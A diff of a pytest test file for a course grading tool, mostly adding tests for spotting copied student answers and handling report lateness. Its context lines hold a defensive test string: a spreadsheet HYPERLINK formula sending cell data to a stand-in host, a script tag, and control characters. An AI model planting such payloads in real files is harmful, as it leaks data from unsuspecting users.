@@ -14,12 +14,13 @@ import pandas as pd
 import pytest
 
 from helpers._common import CourseError, read_json, write_json
+from helpers.checks import EXERCISES
 from helpers.config.settings import COURSE_FOLDER
 from instructor.grading import command, oddities, open_marks, pages, platforms, tables
 from instructor.grading.command import (
     _forget,
+    _graded,
     _moment,
-    _of_notebook,
     add_to,
     grade_command,
     write_all,
@@ -27,7 +28,7 @@ from instructor.grading.command import (
 from instructor.grading.late import add_times
 from instructor.grading.papers import read_paper
 from instructor.grading.submissions import Submission
-from instructor.notebooks.student_edition import answer_cells
+from instructor.notebooks.student_edition import answer_cells, free_text
 
 FORMULA = re.compile(r"(^|[,;|\t\r\n])[ \"]*[=+@＝＋－＠-]")
 HOSTILE = 'oops;=HYPERLINK("http://evil.example/"&A1,"see");\x1b[31m\x00 \u202e <script>alert(1)</script>'
@@ -643,6 +644,7 @@ def test_no_solution_is_flagged():
 
 def test_answers_that_are_alike_are_shown(tmp_path):
     renamed = CODE.replace("low", "a").replace("clipped", "b").replace('"""Scale a slice."""', "# mine")
+    renamed = renamed.replace("    a =", "    shape = image.shape\n    a =", 1)
     other = CODE.replace("np.clip(image, low, high)", "np.minimum(np.maximum(image, low), high)")
     short = mark("1.2.1", answer="# Exercise 1.2.1\ndef f(x):\n    return x")
     answers = {"Ana": CODE, "Bo": renamed, "Cy": other}
@@ -655,11 +657,155 @@ def test_answers_that_are_alike_are_shown(tmp_path):
     ]
     found = oddities.alike(results)
     assert [(one["exercise"][:4].strip(), one["students"]) for one in found] == [
-        ("1.5", ["Ana", "Bo"]),
         ("1.10", ["Di", "Ed"]),
+        ("1.5", ["Ana", "Bo"]),
     ]
     text = (written(results, tmp_path) / "summary.html").read_text("utf-8")
-    assert "Ana, Bo" in text and "def normalise" in text
+    assert "Ana and Bo" in text and "def normalise" in text
+    assert "Ana, Bo" not in text  # the names of a group of two are those of its pair
+
+
+def prose(length, seed):
+    """Return so many words, none of which another seed gives."""
+    return " ".join(f"word{seed}x{place}" for place in range(length))
+
+
+def texts(answers, number="R.6"):
+    """Return results with a free-text answer for each student."""
+    title = f"**Your answer to Think! {number}**\n\n"
+    return [
+        result(name, None, [essay(answer=title + text) | {"id": number, "title": "Discussion"}],
+               notebook="report")
+        for name, text in answers.items()
+    ]  # fmt: skip
+
+
+def test_a_paragraph_that_two_texts_share_is_shown_marked(tmp_path):
+    copied = prose(40, 0)
+    edited = " ".join("Changed" if place == 20 else word for place, word in enumerate(copied.split()))
+    answers = {
+        "Ana": f"{prose(100, 1)}.\n\n{copied}.\n\n{prose(100, 2)}",
+        "Bo": f"{prose(80, 3)}\n{edited.upper()}!",
+        "Cy": f"{prose(200, 4)} {prose(10, 0)}",  # so few words are often the same
+    }
+    (group,) = oddities.alike(texts(answers))
+    (pair,) = group["pairs"]
+    assert (group["exercise"], pair["students"], pair["words"]) == ("R.6 Discussion", ["Ana", "Bo"], 40)
+    (shared,) = [text for text, common in pair["sides"][0] if common]
+    assert shared == copied
+    assert len("".join(text for text, _ in pair["sides"][0])) < len(copied) + 400
+    page = (written(texts(answers), tmp_path) / "summary.html").read_text("utf-8")
+    assert f"<mark>{copied}</mark>" in page
+
+
+def test_a_group_of_copies_is_one_row(tmp_path):
+    copies = {f"S{number}": prose(100, 0) for number in range(30)} | {"Z": prose(100, 1)}
+    (group,) = oddities.alike(texts(copies))
+    assert group["students"] == [*copies][:-1]
+    assert len(group["pairs"]) == 29
+    page = (written(texts(copies), tmp_path) / "summary.html").read_text("utf-8")
+    assert "30 students: S0, S1" in page and "And 9 more pairs." in page
+
+
+def test_everything_that_a_text_shares_with_several_is_shown():
+    parts = [prose(40, place) for place in range(4)]
+    mixed = {"Ana": parts[0] + parts[3], "Bo": parts[1], "Cy": f"{parts[1]} and {parts[0]}"}
+    (group,) = oddities.alike(texts(mixed))
+    assert [pair["students"] for pair in group["pairs"]] in (
+        [["Ana", "Cy"], ["Bo", "Cy"]], [["Bo", "Cy"], ["Ana", "Cy"]]
+    )  # fmt: skip
+
+
+COURSES = COURSE_FOLDER / "notebooks"
+SOURCE = (
+    "Cheng, J., Huang, W., Cao, S., Yang, R., Yang, W., Yun, Z., Wang, Z., Feng, Q. (2015). Enhanced "
+    "performance of brain tumor classification via tumor region augmentation and partition. PLoS ONE 10(10), "
+    "e0140381. https://doi.org/10.1371/journal.pone.0140381"
+)
+
+
+def solved(number):
+    path = next(COURSES.glob("report.ipynb" if number[0] == "R" else f"0{number[0]}*.ipynb"))
+    return answer_cells(read_paper(path.read_bytes()))[number]
+
+
+def rubric(number):
+    return "\n".join(criterion for criterion, _ in EXERCISES[number].rubric)
+
+
+@pytest.mark.parametrize(
+    ("number", "text"),
+    [("R.6", rubric("R.6")), ("R.8", SOURCE), ("2.4.1", free_text(solved("2.4.1"))), ("R.6", "The same.")],
+)
+def test_what_the_course_says_and_what_everybody_cites_is_not_shared(number, text):
+    own = {"Ana": f"{prose(50, 1)}\n\n{text}", "Bo": f"{text}\n\n{prose(50, 2)}"}
+    assert oddities.alike(texts(own, number)) == []
+
+
+@pytest.mark.parametrize("number", ["2.1.1", "2.2.3", "2.12"])
+def test_the_courses_own_code_is_not_shared(number):
+    code = re.sub(r" *### .*\n?", "", solved(number))
+    assert len(code.split("\n")) > 5
+    results = [result(name, None, [mark(number, answer=code)]) for name in ("Ana", "Bo")]
+    assert oddities.alike(results) == []
+    more = "\nextra = [len(str(place)) * 3 + place for place in range(40) if place % 7 > 2 or place == 5]" * 3
+    results = [result(name, None, [mark(number, answer=code + more)]) for name in ("Ana", "Bo")]
+    assert len(oddities.alike(results)) == 1
+
+
+@pytest.mark.parametrize(
+    ("number", "text", "said"),
+    [
+        ("R.6", prose(300, 0), ""),
+        ("R.6", rubric("R.6"), "hardly a word that is not the question's"),
+        ("R.6", f"{rubric('R.6')} {prose(300, 0)}", ""),
+        ("2.4.1", free_text(solved("2.4.1")), "words of the course's own answer"),
+        ("2.4.1", f"{prose(300, 0)} {free_text(solved('2.4.1'))}", "words of the course's own answer"),
+        ("R.6", free_text(solved("R.6")), "words of the course's own answer"),
+        ("R.8", SOURCE, ""),
+    ],
+)
+def test_texts_from_the_course_are_flagged(number, text, said):
+    (one,) = texts({"Ana": text}, number)
+    reasons = [reason for reason in tables.reasons_to_look([one]) if "length" not in reason]
+    assert [said in reason for reason in reasons] == ([True] if said else [])
+    assert oddities.from_the_course(one["marks"][0] | {"answer": ""}) == ""
+
+
+def test_a_text_of_another_length_is_flagged_until_it_is_read(tmp_path):
+    path, short = tmp_path / "open_marks.csv", texts({"Ana": prose(40, 0), "Bo": prose(250, 0)})
+    assert tables.reasons_to_look(short) == ["report: length: R.6 has 40 words, 200 to 700 expected"]
+    open_marks.take_open_marks(short, path)
+    header, ana, bo = rows_of(path)
+    assert header[6:] == ["length", "rubric"]
+    assert [row[6] for row in (ana, bo)] == [f"{count} words, 200 to 700 expected" for count in (40, 250)]
+    assert ana[7].startswith("Compares with a baseline") and " (2) | " in ana[7]
+    fill(path, "3")
+    open_marks.take_open_marks(short, path)
+    assert [one["marks"][0]["got"] for one in short] == [3, 3]
+    assert tables.reasons_to_look(short) == []
+
+
+def test_the_report_is_not_run_by_itself(tmp_path):
+    results = [result(), *texts({"Ana": "One.\n\nTwo <b>."})]
+    results[1]["late"] = {"id": "late report", "title": "percent taken off", "points": 100, "got": 10,
+                          "status": "late", "answer": "2026-11-20 10:00, 1 day late"}  # fmt: skip
+    out = written(results, tmp_path)
+    (row,) = csv.DictReader(io.StringIO((out / "grades.csv").read_text("utf-8-sig")))
+    assert (row["reproduces 01"], row["reproduces report"]) == ("not run", "not run by itself")
+    assert "reproduce</code> runs a student's whole hand-in" in (out / "summary.html").read_text("utf-8")
+    page = (out / "feedback" / "ana.html").read_text("utf-8")
+    assert "The report is not run by itself" in page and "Notebook report" in page
+    assert "<p>One.</p><p>Two &lt;b&gt;.</p>" in page
+
+
+def test_the_lateness_of_a_report_can_be_changed(tmp_path):
+    one = result(notebook="report") | {"path": "x", "modified": datetime(2026, 11, 21, 9).timestamp()}
+    (tmp_path / "open_marks.csv").write_text("student,exercise,points,mark,comment\nAna,late report,,5,Ill\n")
+    add_times([one], None, datetime(2026, 11, 20, 23, 59), (10, 50))
+    assert (one["late"]["id"], one["late"]["got"]) == ("late report", 10)
+    assert open_marks.take_open_marks([one], tmp_path / "open_marks.csv") == []
+    assert one["late"]["got"] == 5
 
 
 def test_the_summary_shows_the_most_frequent_message_and_leaves_out_what_waits():
@@ -697,9 +843,30 @@ def test_one_notebook_alone():
         Submission("Bo", "bo", None, "01_tiny", problem="was not submitted"),
         Submission("Bo", "bo", None, "02_tiny", path="Bo/02.ipynb"),
     ]
-    assert [one.problem for one in _of_notebook(found, "02")] == ["x.pdf is not a notebook", None]
-    with pytest.raises(Exception, match="01_tiny, 02_tiny"):
-        _of_notebook(found, "03")
+    assert [one.problem for one in _graded(found, ["01"])] == [wrong, "was not submitted"]
+    assert [one.problem for one in _graded(found, ["02"])] == ["x.pdf is not a notebook", None]
+    found[1].problem = "was not submitted"
+    assert [one.problem for one in _graded(found, ["02", "01"])][:2] == [wrong, "was not submitted"]
+    with pytest.raises(CourseError, match="03: there are 01_tiny, 02_tiny"):
+        _graded(found, ["02", "03"])
+
+
+def test_a_notebook_that_nobody_submitted_does_not_count(capsys):
+    names = ("01_tiny", "02_tiny", "report")
+    problems = {"Ana": (None, None), "Bo": (None, "was not submitted")}
+    found = [
+        Submission(student, student, None, name, path="" if problem else "x", problem=problem)
+        for student, own in problems.items()
+        for name, problem in zip(names, (*own, "was not submitted"), strict=True)
+    ]
+    assert [one.notebook for one in _graded(found, [])] == ["01_tiny", "02_tiny"] * 2
+    assert "Nobody submitted report: left out of all totals" in capsys.readouterr().out
+    assert _graded(found, ["01", "02", "report"]) == found  # who wants it to count says so
+    found[2].problem = "x.pdf is not a notebook"
+    assert _graded(found, []) == found
+    missing = [Submission("Ana", "ana", None, name, problem="was not submitted") for name in names]
+    assert _graded(missing, []) == missing
+    assert capsys.readouterr().out == ""
 
 
 @pytest.mark.parametrize("rerun", [True, False])
